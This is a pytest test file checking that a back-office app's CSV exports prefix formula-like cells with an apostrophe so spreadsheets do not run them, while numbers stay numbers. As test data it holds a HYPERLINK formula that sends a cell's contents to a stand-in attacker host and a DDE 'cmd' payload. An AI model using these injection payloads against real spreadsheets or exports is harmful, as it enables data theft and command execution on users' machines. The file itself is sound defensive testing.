"""CSV exports: a text cell never runs as a spreadsheet formula, numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from backoffice.core import clock
from backoffice.core.db import transaction
from backoffice.core.exports import csv_writer, neutralise
from backoffice.core.permissions import Role
from backoffice.ledger import services as ledger
from backoffice.ledger.chart import AccountType
from backoffice.ledger.services import Line

from ..helpers import email_for
from ..sponsorship import active_group, client_for, eur, give

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


@pytest.mark.parametrize("cell, shown", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.50", "-12.50"), ("+7", "+7"), ("1234.50", "1234.50"), ("Venue", "Venue"),
    ("", ""), (-5, -5), (None, None),
])
def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe(cell, shown):
    assert neutralise(cell) == shown


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=cmd", "-1.00"], ["ok", "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd", "-1.00"], ["ok", "'@x"]]


def test_a_fund_statement_csv_neutralises_an_account_named_like_a_formula(app, session, users):
    group = active_group(session, "PyFormula", actor=users[Role.ADMIN])
    fund = group.fund
    with transaction():
        give(session, fund, eur("100.00"))
        venue = ledger.create_account(session, code="5190", name=FORMULA,
                                      type=AccountType.EXPENSE, actor=users[Role.ADMIN])
        ledger.post_entry(session, booking_date=clock.today(), description="@venue", actor=None,
                          lines=[Line(venue, fund, eur("80.00")),
                                 Line(ledger.account_by_role(session, "bank"), fund,
                                      -eur("80.00"))])
    client = client_for(app, email_for(Role.TREASURER))
    response = client.get(f"/reports/funds/{fund.id}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    spent = next(row for row in rows if row[0] == "5190")
    assert spent[1] == "'" + FORMULA
    assert spent[3] == "80.00"
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row)
